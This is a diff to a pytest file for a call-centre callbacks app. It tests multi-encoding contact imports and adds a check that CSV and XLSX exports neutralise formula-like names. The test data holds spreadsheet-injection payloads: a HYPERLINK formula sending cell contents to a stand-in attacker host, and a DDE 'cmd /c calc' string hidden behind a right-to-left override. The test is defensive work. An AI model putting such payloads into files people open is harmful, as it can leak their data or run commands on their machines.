@@ -1,15 +1,19 @@
 """Campaigns on SQLite and PostgreSQL: imports in every encoding Chinese
-spreadsheets use, bad rows reported, outcomes, do-not-call, and the report."""
+spreadsheets use, bad rows reported, outcomes, do-not-call, and the report (its
+exports inert however hostile the names in it; hostile imports: test_import_limits)."""
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
+from callcenter.callbacks import report as export
 from callcenter.callbacks import service
+from callcenter.callbacks.settings import CallbacksSection, import_limits
 from callcenter.domain.calendar import WorkCalendar
 from callcenter.domain.callbacks import Outcome, RetryPolicy
 from callcenter.domain.phone import PhoneNumber
@@ -17,6 +21,7 @@ from callcenter.store import db
 from callcenter.store import models as m
 
 P = PhoneNumber.parse
+LIMITS = import_limits(CallbacksSection())
 TZ = ZoneInfo("Asia/Shanghai")
 CAL = WorkCalendar()
 NOW = 1_800_000_000.0
@@ -46,7 +51,7 @@ def test_csv_import_in_every_encoding(db_url: str, tmp_path: Path, encoding: str
     engine = db.engine_for(db_url)
     campaign = _campaign(db_url)
     report = service.import_file(engine, campaign, _write_csv(tmp_path / "list.csv", encoding),
-                                 NOW, TZ, calendar=CAL)
+                                 NOW, TZ, calendar=CAL, limits=LIMITS)
     assert [r.phone for r in report.good] == ["13800138000", "13600136000"]
     assert report.rejected == [
         (3, "missing phone"), (4, "invalid number '12345'"), (5, "duplicate of row 2"),
@@ -54,7 +59,8 @@ def test_csv_import_in_every_encoding(db_url: str, tmp_path: Path, encoding: str
     rows = service.campaigns(engine, TZ)
     assert rows[0]["contacts"] == 2 and rows[0]["pending"] == 2
     # the same file again: everything is already there
-    again = service.import_file(engine, campaign, tmp_path / "list.csv", NOW, TZ, calendar=CAL)
+    again = service.import_file(engine, campaign, tmp_path / "list.csv", NOW, TZ, calendar=CAL,
+                                limits=LIMITS)
     assert not again.good and {reason for _, reason in again.rejected} >= {"already in this campaign"}
 
 
@@ -65,7 +71,7 @@ def test_xlsx_import(db_url: str, tmp_path: Path) -> None:
     book.save(tmp_path / "list.xlsx")
     engine = db.engine_for(db_url)
     report = service.import_file(engine, _campaign(db_url), tmp_path / "list.xlsx", NOW, TZ,
-                                 calendar=CAL)
+                                 calendar=CAL, limits=LIMITS)
     assert len(report.good) == 2 and len(report.rejected) == 5
 
 
@@ -128,3 +134,40 @@ def test_overdue_callbacks_raise_and_clear_an_alert(db_url: str) -> None:
     assert service.check_deadlines(engine, NOW + 5 * 86400) == 0
     with engine.connect() as conn:
         assert conn.execute(m.Alert.__table__.select()).one().cleared_at is not None
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+1+2", "-2+3", "@SUM(1,1)",
+            "\t=1+1", "\r=1+1", "  =1+1", "\u202e=cmd|'/c calc'!A0"]
+
+
+def test_exports_neutralise_formula_like_text(db_url: str, tmp_path: Path) -> None:
+    engine = db.engine_for(db_url)
+    campaign = _campaign(db_url)
+    for i, name in enumerate(FORMULAS):
+        service.add_contact(engine, campaign, P(f"1380013{i:04d}"), NOW, tz=TZ, calendar=CAL,
+                            name=name)
+    report = service.report(engine, campaign, NOW, TZ)
+    export.write_csv(tmp_path / "r.csv", report)
+    export.write_xlsx(tmp_path / "r.xlsx", report)
+
+    book = load_workbook(tmp_path / "r.xlsx")  # not read-only: data types as Excel sees them
+    texts = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
+    names = [row[0].value for row in book["not reached"].iter_rows(min_row=2)]
+    assert names == ['\'=HYPERLINK("http://evil.example/?q="&A1,"点击")', "'+1+2", "'-2+3",
+                     "'@SUM(1,1)", "'=1+1", "'=1+1", "'=1+1", "'=cmd|'/c calc'!A0"]
+    summary = {row[0].value: row[1].value for row in book["summary"].iter_rows(min_row=2)}
+    assert summary["contacts"] == len(FORMULAS) and isinstance(summary["contacts"], int)
+    assert next(row[1].value for row in book["not reached"].iter_rows(min_row=2)) == "13800130000"
+
+    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as source:
+        cells = [cell for row in csv.reader(source) for cell in row]
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    assert [c for c in cells if c.startswith("'")] == names
+    assert "8" in cells  # the count of contacts, a plain number
